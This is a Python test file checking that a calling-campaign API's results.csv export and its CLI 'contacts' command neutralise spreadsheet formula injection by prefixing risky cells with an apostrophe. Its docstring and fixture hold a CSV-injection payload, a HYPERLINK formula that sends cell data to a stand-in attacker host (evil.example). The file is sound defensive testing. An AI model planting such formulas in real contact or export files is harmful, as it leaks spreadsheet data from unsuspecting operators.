"""Imported attributes cannot run as spreadsheet formulas: results.csv and `dialer contacts`
write a cell that starts with = + - @ (a tab, a CR) with a leading apostrophe. Before, a contacts
file with `=HYPERLINK("http://evil/?"&A1,"click")` as a name put that formula in the operator's
results file."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import httpx

from tests.api.test_campaigns import create

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_results_csv_and_the_contacts_command_neutralise_formulas(admin: httpx.Client, redis_url: str,
                                                                  tmp_path: Path) -> None:
    create(admin, {"name": "X", "mode": "ivr", "caller_id": "0281234567", "ivr_script": "seed_survey",
                   "pacing": {"max_channels": 10}}, id="csv1")
    body = ("phone,name,@note\n" f'0901000001,"{EVIL.replace(chr(34), chr(34) * 2)}",+1 cmd\n'
            "0901000002,An,plain\n").encode()
    assert admin.post("/v1/campaigns/csv1/contacts", content=body).json()["accepted"] == 2
    rows = list(csv.reader(io.StringIO(admin.get("/v1/campaigns/csv1/results.csv").text)))
    header, by_number = rows[0], {r[0]: r for r in rows[1:]}
    assert header[-2:] == ["name", "'@note"]
    assert by_number["+84901000001"][-2:] == ["'" + EVIL, "'+1 cmd"]
    assert by_number["+84901000002"][-2:] == ["An", "plain"]
    assert by_number["+84901000001"][0] == "+84901000001"  # our own E.164 numbers stay as they are
    out = subprocess.run([sys.executable, "-m", "api.cli", "--redis-url", redis_url, "--state-dir", str(tmp_path),
                          "contacts", "csv1"], capture_output=True, text=True, timeout=60, check=True).stdout
    cli_rows = list(csv.reader(io.StringIO(out)))
    assert "'" + EVIL in cli_rows[1] + cli_rows[2] and "'@note" in cli_rows[0]
